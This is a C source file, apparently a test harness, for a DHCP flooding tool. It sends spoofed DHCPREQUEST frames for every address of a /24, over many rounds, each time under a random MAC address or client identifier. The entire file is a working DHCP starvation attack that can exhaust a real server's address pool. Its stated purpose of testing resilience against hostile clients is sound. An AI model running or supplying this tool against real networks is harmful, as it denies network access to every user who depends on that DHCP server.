/* A hostile guest for a test: asks for every address of a /24 by DHCP, each time as somebody else.
 *
 *   dhcp-flood LINK A.B.C. mac|id ROUNDS
 *
 * mac: hardware addresses at random, in the frame and in what it says; id: its own one, with client identifiers at random.
 */
#define _DEFAULT_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

enum { ethernet = 14, ip = 20, udp = 8, dhcp = 300, frame_size = ethernet + ip + udp + dhcp };

static void put16(uint8_t *at, unsigned value)
{
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
}

static unsigned header_sum(const uint8_t *header)
{
    unsigned long sum = 0;
    for (int i = 0; i < ip; i += 2)
        sum += (unsigned)(header[i] << 8 | header[i + 1]);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned)(~sum & 0xffff);
}

/* A DHCPREQUEST of a client that says it had the address before (RFC 2131, 4.3.2). */
static void fill(uint8_t *frame, const uint8_t *mac, uint32_t address, uint32_t id)
{
    memset(frame, 0, frame_size);
    memset(frame, 0xff, 6);
    memcpy(frame + 6, mac, 6);
    put16(frame + 12, 0x0800);
    uint8_t *header = frame + ethernet;
    header[0] = 0x45;
    put16(header + 2, ip + udp + dhcp);
    header[8] = 64;
    header[9] = IPPROTO_UDP;
    memset(header + 16, 0xff, 4);
    put16(header + 10, header_sum(header));
    put16(header + ip, 68);
    put16(header + ip + 2, 67);
    put16(header + ip + 4, udp + dhcp);
    uint8_t *body = header + ip + udp;
    body[0] = 1;
    body[1] = 1;
    body[2] = 6;
    memcpy(body + 4, &id, 4);
    memcpy(body + 28, mac, 6);
    uint8_t *option = body + 236;
    static const uint8_t head[] = {99, 130, 83, 99, 53, 1, 3, 50, 4};
    memcpy(option, head, sizeof head);
    memcpy(option + sizeof head, &address, 4);
    option += sizeof head + 4;
    if (id != 0) {
        option[0] = 61;
        option[1] = 5;
        memcpy(option + 3, &id, 4);
        option += 7;
    }
    *option = 255;
}

int main(int argc, char **argv)
{
    if (argc != 5)
        return 2;
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    struct ifreq request = {0};
    strncpy(request.ifr_name, argv[1], IFNAMSIZ - 1);
    if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &request) != 0)
        return 1;
    uint8_t mac[6];
    memcpy(mac, request.ifr_hwaddr.sa_data, 6);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_halen = 6};
    to.sll_ifindex = (int)if_nametoindex(argv[1]);
    srandom((unsigned)getpid());
    for (int round = 0; round < atoi(argv[4]); round++) {
        for (int host = 2; host < 255; host++) {
            char text[32];
            uint8_t frame[frame_size];
            snprintf(text, sizeof text, "%.20s%d", argv[2], host);
            int by_mac = strcmp(argv[3], "mac") == 0;
            for (int i = 1; by_mac && i < 6; i++)
                mac[i] = (uint8_t)random();
            if (by_mac)
                mac[0] = 2;
            fill(frame, mac, inet_addr(text), by_mac ? 0 : (uint32_t)random() | 1);
            if (sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0)
                return 1;
            usleep(1000);
        }
    }
    return 0;
}
